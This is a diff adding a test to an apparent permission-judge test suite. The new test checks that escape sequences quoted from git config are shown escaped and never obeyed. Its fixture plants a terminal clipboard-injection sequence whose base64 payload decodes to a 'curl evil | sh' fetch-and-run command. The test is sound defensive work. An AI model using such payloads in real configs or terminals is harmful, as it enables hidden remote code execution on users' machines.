@@ -172,3 +172,9 @@ def test_the_users_global_hooks_path_is_protected_too(judge: Judge, repo: Path, 
     (home / ".gitconfig").write_text("[core]\n\thooksPath = ~/githooks\n")
     judgement = judge("write_file", path=str(home / "githooks" / "pre-push"), content="x")
     assert judgement.verdict == "ask" and judgement.person_only
+
+
+def test_what_the_reason_quotes_from_the_config_is_shown_never_obeyed(judge: Judge, repo: Path) -> None:
+    git(repo, "config", "diff.x.textconv", "./conv.sh \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07")
+    reason = command(judge, "git diff")[1]
+    assert "\x1b" not in reason and "\x07" not in reason and "\\x1b]52;c;" in reason
